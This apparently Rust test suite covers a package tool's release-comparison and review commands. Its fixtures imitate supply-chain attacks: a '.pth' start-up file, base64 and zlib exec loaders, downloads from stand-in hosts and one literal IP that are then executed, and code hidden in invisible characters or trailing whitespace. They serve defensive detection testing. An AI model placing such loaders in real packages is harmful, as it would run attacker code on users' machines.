//! `packman curate compare` and `packman curate review`: what an upstream that was taken over hands to its scapegoat, and what
//! is said of who looked.
//!
//! Each incident is made up after one that happened, in the shape in which it was found: beside it in every release stands
//! what honest releases have. Nothing here does anything: hosts are of `.example`, and encoded texts are letters.

use packman_strict::Sha256;
use packman_strict::json::Value;
use packman_wheel::make::WheelDraft;
use testkit::packages::module;
use testkit::world::World;

use crate::support::{Stage, at, plain, sign_and_publish, texts, without_progress};

/// An honest release: modules, a test that starts programs, a command, data.
fn release(name: &str, version: &str) -> WheelDraft {
    let number = version.replace('.', "");
    let mut draft = WheelDraft::new(name, version)
        .file(
            &format!("{name}/__init__.py"),
            format!("from {name}.core import main\n__version__ = '{version}'\n"),
        )
        .file(
            &format!("{name}/core.py"),
            format!("import os\nimport subprocess\n\ndef main():\n    return {number}\n"),
        )
        .file(&format!("{name}/client.py"), "import urllib.request\nURL = 'https://api.example/v1'\n")
        .file(
            &format!("{name}/tests/test_core.py"),
            format!("import subprocess\nsubprocess.run(['ls', '{number}'])\n"),
        )
        .file(&format!("{name}/data/names.json"), "{}\n")
        .requires("click>=8")
        .command(name, &format!("{name}.core:main"));
    for part in 0..6 {
        let changed = format!("def part():\n    # of {version}\n    return {part}\n");
        draft = draft.file(&format!("{name}/part{part}.py"), changed);
    }
    draft.deflated = true;
    draft
}

/// The same with a line more in a file.
fn with_line(mut draft: WheelDraft, file: &str, line: &str) -> WheelDraft {
    let path = format!("{}/{file}", draft.name);
    let content = draft.files.iter_mut().find(|(at, _)| *at == path).map(|(_, content)| content);
    content.expect("a file of the release").extend_from_slice(line.as_bytes());
    draft
}

fn elf(size: usize) -> Vec<u8> {
    let noise = (0..size).map(|at| u8::try_from(at * 31 % 251).unwrap());
    b"\x7fELF\x02\x01\x01\0".iter().copied().chain(noise).collect()
}

/// Each incident: what the project is called here, what its next release has, and what the first lines must say.
fn incidents() -> Vec<(&'static str, WheelDraft, &'static str)> {
    let next = |name: &str| release(name, "1.1");
    let blob = "QUJDREVGR0hJSktMTU5P".repeat(120);
    vec![
        // 2026, a start-up file in the wheel alone, which no import needs.
        (
            "startup",
            next("startup").file(
                "startup_init.pth",
                format!("import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', 'exec(\"{blob}\")'])\n"),
            ),
            "`startup_init.pth`: new; Python reads it whenever it starts, and runs `import os, subprocess, sys;",
        ),
        // The release before it: a long encoded text in a module that starts programs anyway.
        (
            "proxy",
            with_line(
                next("proxy"),
                "core.py",
                &format!("import base64\nb64 = '{blob}'\nsubprocess.run(['python', '-c', base64.b64decode(b64)])\n"),
            ),
            "`proxy/core.py`, line 6: new code decodes or unpacks data, holds a long encoded text and starts programs",
        ),
        // 2024, from a poisoned build cache: a miner that a helper for downloads fetches and starts.
        (
            "vision",
            with_line(
                next("vision"),
                "core.py",
                "def safe_run(path):\n    urllib.request.urlretrieve('https://pool.example/xm', path)\n    os.system(path)\n",
            ),
            "`vision/core.py`, line 8: new code starts programs and talks to the network; newly names `pool.example`",
        ),
        // 2024, a backdoor in what tests unpack, and in the library that is built with it.
        (
            "packer",
            next("packer")
                .file("packer/_core.so", elf(4_000))
                .file("packer/tests/files/bad-3-corrupt.bin", [b"\xfd7zXZ\0\0\x04".as_slice(), &[7; 900]].concat()),
            "`packer/tests/files/bad-3-corrupt.bin`: new: packed data (xz), which nobody reads",
        ),
        // 2025 and 2026, a worm: a small file that fetches a runtime for a huge one without line breaks.
        (
            "worm",
            next("worm")
                .file(
                    "worm/_runtime/start.py",
                    "import subprocess, urllib.request\nurllib.request.urlopen('https://bun.example/bun.zip')\n",
                )
                .file("worm/_runtime/router.js", format!("var a='{}';eval(a)", "x".repeat(1_200_000))),
            "`worm/_runtime/router.js`, line 1: new code runs text as code and holds a long encoded text",
        ),
        // 2026, a payload in the sound of a file that is fetched.
        (
            "phone",
            with_line(
                next("phone"),
                "client.py",
                "import wave, base64\nw = wave.open(urllib.request.urlopen('http://83.142.209.203:8080/ring.wav'))\n\
                 exec(base64.b64decode(w.readframes(9)))\n",
            ),
            "`phone/client.py`, line 5: new code runs text as code, decodes or unpacks data and talks to the network; newly \
             names `83.142.209.203:8080`",
        ),
    ]
}

/// More of them.
fn more_incidents() -> Vec<(&'static str, WheelDraft, &'static str)> {
    let next = |name: &str| release(name, "1.1");
    let blob = "QUJDREVGR0hJSktMTU5P".repeat(120);
    vec![
        // 2024, a wallet: code packed in code packed in code.
        (
            "wallet",
            with_line(
                next("wallet"),
                "core.py",
                &format!(
                    "exec((_:=lambda __:__import__('zlib').decompress(__import__('base64').b64decode(__[::-1])))(b'{blob}'))\n"
                ),
            ),
            "`wallet/core.py`, line 6: new code runs text as code, decodes or unpacks data and holds a long encoded text",
        ),
        // 2025, from a phished maintainer: a library that the module loads.
        (
            "words",
            with_line(
                next("words").file("words/node_gyp.dll", [b"MZ\x90\0".as_slice(), &elf(2_000)].concat()),
                "core.py",
                "import ctypes\nctypes.WinDLL('node_gyp.dll')\n",
            ),
            "`words/node_gyp.dll`: new: a Windows program or library, which nobody reads",
        ),
        // 2024, a program in a picture.
        (
            "sidebar",
            with_line(
                next("sidebar").file(
                    "sidebar/data/sidebar-large.png",
                    [b"\xcf\xfa\xed\xfe".as_slice(), &elf(9_000)].concat(),
                ),
                "core.py",
                "subprocess.Popen(['chmod', '+x', 'sidebar-large.png'])\n",
            ),
            "`sidebar/data/sidebar-large.png`: new; it is a Mach-O program or library, and its name does not say so",
        ),
        // 2018 and 2026, nothing but a new dependency, which has the rest.
        ("stream", next("stream").requires("plain-crypto-py>=4.2"), "new dependency: `plain-crypto-py>=4.2`"),
        // 2025, code in characters that no editor shows.
        (
            "glass",
            with_line(
                next("glass"),
                "core.py",
                &format!("s = '{}'\nexec(bytes(ord(c) & 255 for c in s))\n", "\u{e0121}\u{e0133}".repeat(40)),
            ),
            "`glass/core.py`, line 6: new code hides code from its reader and runs text as code",
        ),
        // The same far off to the right.
        (
            "far",
            with_line(next("far"), "core.py", &format!("import sys{};exec(sys.argv[1])\n", " ".repeat(400))),
            "`far/core.py`, line 6: new code hides code from its reader and runs text as code",
        ),
        // 2026, a plugin that a test runner loads by itself.
        (
            "runner",
            next("runner").entry_point("pytest11", "runner", "runner.part0"),
            "a new plugin `runner` of `pytest11`: what looks for such plugins loads `runner.part0` by itself",
        ),
    ]
}

/// Everything a command says, without what differs from run to run.
fn both(world: &World, arguments: &[&str]) -> String {
    let run = world.run(arguments);
    plain(world, &without_progress(&format!("{}{}", run.stdout, run.stderr))).trim_end().to_owned()
}

#[test]
fn what_would_have_revealed_each_incident_stands_in_the_first_lines() {
    let incidents = [incidents(), more_incidents()].concat();
    let stage = Stage::published(incidents.iter().map(|(name, ..)| release(name, "1.0")).collect());
    let mut hidden = Vec::new();
    for (name, draft, wanted) in &incidents {
        stage.index.add(draft);
        let run = stage.world.run(&["curate", "compare", "db", name]);
        // The release, the wheel, how much it matters; then what does.
        let first: Vec<&str> = run.stdout.lines().take(5).collect();
        if !first.iter().any(|line| line.contains(wanted)) {
            hidden.push(format!("{name}: wanted {wanted}\n{}{}", run.stdout, run.stderr));
        }
    }
    assert!(hidden.is_empty(), "{}", hidden.join("\n"));
    // And an honest release says nothing that has to be understood first.
    stage.index.add(&release("startup", "1.2"));
    stage.index.add(&release("startup", "1.3"));
    let run = stage.world.ok(&["curate", "compare", "db", "startup", "1.2", "1.3"]);
    assert!(!run.stdout.contains("look first"), "{}", run.stdout);
}

#[test]
fn a_provenance_that_vanishes_or_changes_comes_first() {
    let stage = Stage::published(vec![module("click", "8.0")]);
    let built = |version: &str, by: &[&str]| {
        stage.index.add(&module("flask", version));
        stage.index.change(&format!("flask-{version}-py3-none-any.whl"), |listed| {
            listed.built_by = by.iter().map(|by| (*by).to_owned()).collect();
        });
    };
    built("3.0", &["pallets/flask"]);
    stage.world.ok(&["curate", "add", "db", "flask==3.0"]);
    sign_and_publish(&stage.world);
    let record = std::fs::read_to_string(stage.world.path("db/projects/flask.json")).unwrap();
    assert!(record.contains("GitHub pallets/flask publish.yml"), "{record}");
    for (version, by, wanted) in [
        ("3.1", &["pallets/flask"][..], "files: "),
        (
            "3.2",
            &[],
            "its provenance vanished: nobody says where it was built; the release before was built by `GitHub pallets/flask publish.yml`",
        ),
        (
            "3.3",
            &["mallory/flask"],
            "its provenance changed: built by `GitHub mallory/flask publish.yml`, was `GitHub pallets/flask publish.yml`",
        ),
    ] {
        built(version, by);
        let run = stage.world.run(&["curate", "compare", "db", "flask", version]);
        assert!(run.stdout.lines().take(4).any(|line| line.contains(wanted)), "{wanted}\n{}", run.stdout);
        // As recorded it says the same.
        stage.world.ok(&["curate", "add", "db", &format!("flask=={version}")]);
        let recorded = stage.world.run(&["curate", "compare", "db", "flask", version]);
        assert_eq!(
            recorded.stdout.replace("(staged)", "(not recorded)").lines().take(4).collect::<Vec<_>>(),
            run.stdout.lines().take(4).collect::<Vec<_>>()
        );
    }
}

#[test]
fn what_was_not_compared_is_shown_before_it_is_signed() {
    let stage = Stage::published(vec![release("flask", "3.0")]);
    let world = &stage.world;
    stage.index.add(&with_line(release("flask", "3.1"), "core.py", "import ctypes\n"));
    world.ok(&["curate", "add", "db", "flask==3.1"]);
    let status = both(world, &["curate", "status", "db"]);
    assert!(
        status.contains(
            "1 file was not compared here with what was vouched for before: packman curate compare DIR flask"
        ),
        "{status}"
    );
    let shown = both(world, &["curate", "compare", "db", "flask", "--lines"]);
    let shown: Vec<&str> = shown.lines().filter(|line| !line.contains("part")).collect();
    insta::assert_snapshot!(shown[..12].join("\n"), @"
    flask 3.0 (vouched for) -> 3.1 (staged)
    flask-3.1-py3-none-any.whl, 2.9 KiB, beside flask-3.0-py3-none-any.whl, 2.9 KiB
      good to know:
        . `flask/core.py`, line 6: new code calls native code: `import ctypes`
        . `flask/tests/test_core.py`, line 2: new code starts programs: `subprocess.run(['ls', '31'])`
      files: 0 new, 10 changed, 0 gone, 4 the same
        ~ `flask/core.py`, 55 B -> 69 B, lines +2 -1 at 5-6
          - 5 |     return 30
          + 5 |     return 31
          + 6 | import ctypes
        ~ `flask/__init__.py`, 48 B -> 48 B, lines +1 -1 at 2
          - 2 | __version__ = '3.0'
    ");
    insta::assert_snapshot!(shown[shown.len() - 2..].join("\n"), @"
    what new code does is guessed from words in it: hints are no verdict, and neither is their absence
    who looked at it records that with: packman curate review db flask-3.1-py3-none-any.whl --by NAME --delta-from SHA256
    ");
    let status = both(world, &["curate", "status", "db"]);
    assert!(!status.contains("not compared"), "{status}");
    let json = world.ok(&["curate", "status", "db", "--json"]);
    assert_eq!(
        at(&at(&json.json(), &["staged", "new"]).as_array().unwrap()[0], &["compared"]),
        &Value::Bool(true)
    );
    // The note is no trust: torn, it is nothing, and there is more to look at.
    std::fs::write(world.path("db/.packman-compared.json"), "{").unwrap();
    assert!(both(world, &["curate", "status", "db"]).contains("1 file was not compared here"));
    world.ok(&["curate", "sign", "db", "--yes"]);
    world.ends(1, "nothing-new", &["curate", "compare", "db", "flask"]);
    world.ends(1, "not-recorded", &["curate", "compare", "db", "flask", "9.9"]);
    world.ends(1, "nothing-new", &["curate", "compare", "db", "nobody"]);
    world.ends(2, "usage", &["curate", "compare", "db", "flask", "one", "two"]);
}

#[test]
fn a_review_reaches_everybody_who_asks_before_he_installs() {
    let stage = Stage::trusted(vec![module("flask", "3.0"), module("flask", "3.1")]);
    let world = &stage.world;
    let (file, old) = ("flask-3.1-py3-none-any.whl", "flask-3.0-py3-none-any.whl");
    let sha256 = |version: &str| Sha256::of(&module("flask", version).build().unwrap()).to_string();
    let review = [
        "curate",
        "review",
        "db",
        file,
        "--by",
        "Jack Jansen",
        "--delta-from",
        &sha256("3.0"),
        "--notes",
        "read all",
    ];
    insta::assert_snapshot!(both(world, &review), @"
    flask-3.1-py3-none-any.whl, SHA-256 SHA256: reviewed by `Jack Jansen`
    next: packman curate sign db
    ");
    world.ok(&["curate", "review", "db", old, "--by", "bandit", "--machine"]);
    insta::assert_snapshot!(both(world, &["curate", "sign", "db", "--yes"]).lines().take(4).collect::<Vec<_>>().join("\n"), @"
    with another address, yank or review: 2 files
      ~ flask-3.0-py3-none-any.whl  reviewed by bandit now
      ~ flask-3.1-py3-none-any.whl  reviewed by Jack Jansen now
    signed version 2
    ");
    world.ok(&["curate", "publish", "db", "--to", "site"]);
    let record = std::fs::read_to_string(world.path("db/projects/flask.json")).unwrap();
    for said in [
        format!("delta:{}", sha256("3.0")),
        "\"human\"".to_owned(),
        "\"machine\"".to_owned(),
        "read all".to_owned(),
    ] {
        assert!(record.contains(&said), "{said}: {record}");
    }
    let info = world.ok(&["info", "flask", "--json"]);
    assert_eq!(texts(at(&info.json(), &["files"]), "reviewed-by"), ["Jack Jansen", "bandit"]);
    world.venv("v");
    let plan = world.ok(&["install", "--venv", "v", "flask", "--dry-run"]);
    assert!(plan.stdout.contains("reviewed by Jack Jansen"), "{}", plan.stdout);
    // Taken back, nobody reviewed it again.
    world.ok(&["curate", "review", "db", "flask==3.1", "--undo"]);
    sign_and_publish(world);
    let plan = world.ok(&["install", "--venv", "v", "flask", "--dry-run"]);
    assert!(plan.stdout.contains("nobody reviewed"), "{}", plan.stdout);
    world.ends(1, "not-reviewed", &["curate", "review", "db", "flask==3.1", "--undo"]);
}

#[test]
fn a_review_is_of_the_bytes_that_were_looked_at_and_of_no_others() {
    let stage = Stage::published(vec![module("flask", "3.0")]);
    let world = &stage.world;
    let file = "flask-3.1-py3-none-any.whl";
    stage.index.add(&module("flask", "3.1"));
    world.ok(&["curate", "add", "db", "flask==3.1"]);
    world.ok(&["curate", "review", "db", file, "--by", "Jack"]);
    let place = world.path("db/projects/flask.json");
    let honest = std::fs::read_to_string(&place).unwrap();
    // Other bytes under the same name, with the review left where it stood: a pull request that changes one line.
    let other = module("flask", "3.1").file("flask/evil.py", "exec('')\n");
    let (seen, evil) =
        (Sha256::of(&module("flask", "3.1").build().unwrap()), Sha256::of(&other.build().unwrap()));
    let entry = honest.find(file).unwrap();
    let (before, after) = honest.split_at(entry);
    let after = after.replacen(&format!("\"sha256\": \"{seen}\""), &format!("\"sha256\": \"{evil}\""), 1);
    std::fs::write(&place, format!("{before}{after}")).unwrap();
    let status = world.ok(&["curate", "status", "db", "--json"]);
    let new = at(&status.json(), &["staged", "new"]).as_array().unwrap().to_vec();
    assert_eq!(
        (at(&new[0], &["sha256"]).as_str().unwrap(), at(&new[0], &["reviewed-by"])),
        (&*evil.to_string(), &Value::Null)
    );
    // Removed, and added again where the index has other bytes by now: refused; forgotten altogether, nobody reviewed it.
    std::fs::write(&place, &honest).unwrap();
    world.ok(&["curate", "remove", "db", "flask==3.1"]);
    stage.index.add_bytes(file, other.build().unwrap(), None);
    world.ends(3, "hash-changed", &["curate", "add", "db", "flask==3.1"]);
    std::fs::remove_file(world.path("db/retired.json")).unwrap();
    world.ok(&["curate", "add", "db", "flask==3.1"]);
    let status = world.ok(&["curate", "status", "db", "--json"]);
    let new = at(&status.json(), &["staged", "new"]).as_array().unwrap().to_vec();
    assert_eq!(
        (at(&new[0], &["sha256"]).as_str().unwrap(), at(&new[0], &["reviewed-by"])),
        (&*evil.to_string(), &Value::Null)
    );
}

#[test]
fn what_is_no_review_is_not_recorded() {
    let stage = Stage::published(vec![module("flask", "3.0"), module("click", "8.0")]);
    let world = &stage.world;
    let click = Sha256::of(&module("click", "8.0").build().unwrap()).to_string();
    let flask = Sha256::of(&module("flask", "3.0").build().unwrap()).to_string();
    let file = "flask-3.0-py3-none-any.whl";
    for (exit, code, arguments) in [
        (1, "not-recorded", vec!["flask-9-py3-none-any.whl", "--by", "J"]),
        (1, "not-recorded", vec![file, "--by", "J", "--delta-from", &click]),
        (2, "usage", vec![file, "--by", "J", "--delta-from", &flask]),
        (2, "usage", vec![file, "--by", "J", "--delta-from", "md5"]),
        (2, "usage", vec![file, "--by", "  "]),
        (2, "usage", vec![file, "--by", "J\u{1b}[2J"]),
        (2, "usage", vec!["flask[x]", "--by", "J"]),
    ] {
        world.ends(exit, code, &[&["curate", "review", "db"], arguments.as_slice()].concat());
    }
    assert!(world.ok(&["curate", "review", "db", &flask, "--by", "J"]).stderr.contains(file));
}
